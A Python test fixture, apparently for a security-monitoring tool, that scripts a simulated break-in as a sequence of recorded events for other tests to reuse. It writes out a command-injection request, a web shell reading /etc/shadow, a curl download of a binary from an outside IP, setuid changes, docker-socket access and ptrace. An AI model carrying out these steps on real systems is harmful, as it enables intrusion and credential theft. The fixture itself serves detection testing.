"""A story that many tests tell."""

from __future__ import annotations

from tiercel.capture.scenario import Scenario


def break_in() -> Scenario:
    """A web shell in a container steals passwords; an admin on the host looks on."""
    story = Scenario("web-1")
    story.user("app", 1000)
    web = story.container("web", image="nginx:1.25")
    nginx = story.process("/usr/sbin/nginx", "-g", "daemon off;", container=web)
    sshd = story.process("/usr/sbin/sshd", "-D")

    listening = nginx.listen(("0.0.0.0", 80))
    client = nginx.accept(listening, ("198.51.100.7", 51000))
    nginx.receive(client, b"GET /?q=;id HTTP/1.1\r\n")
    shell = nginx.spawn("/bin/sh", "-c", "cat /etc/shadow")
    shadow = shell.open("/etc/shadow")
    shell.read(shadow, b"root:*:")
    shell.close(shadow)
    shell.exit()
    nginx.send(client, b"HTTP/1.1 200 OK\r\n")

    bash = sshd.spawn("/bin/bash", "-i")
    bash.setuid(1000)
    bash.chdir("/tmp")
    curl = bash.spawn("/usr/bin/curl", "-o", "x", "http://203.0.113.9/x")
    server = curl.connect(("203.0.113.9", 80))
    curl.send(server, b"GET /x HTTP/1.1\r\n")
    curl.receive(server, b"HTTP/1.1 200 OK\r\n")
    target = curl.open("x", "O_WRONLY|O_CREAT|O_TRUNC", 0o644)
    curl.write(target, b"\x7fELF")
    curl.close(target)
    curl.exit()
    bash.chmod("x", 0o4755)
    bash.rename("x", "/usr/bin/y", fail="EACCES")
    bash.connect("/run/docker.sock")
    bash.connect(("2001:db8::1", 443), fail="ECONNREFUSED")
    bash.mount("/dev/sda1", "/mnt")
    bash.ptrace(nginx)
    story.wait(2)
    bash.exit(signal=9)
    return story
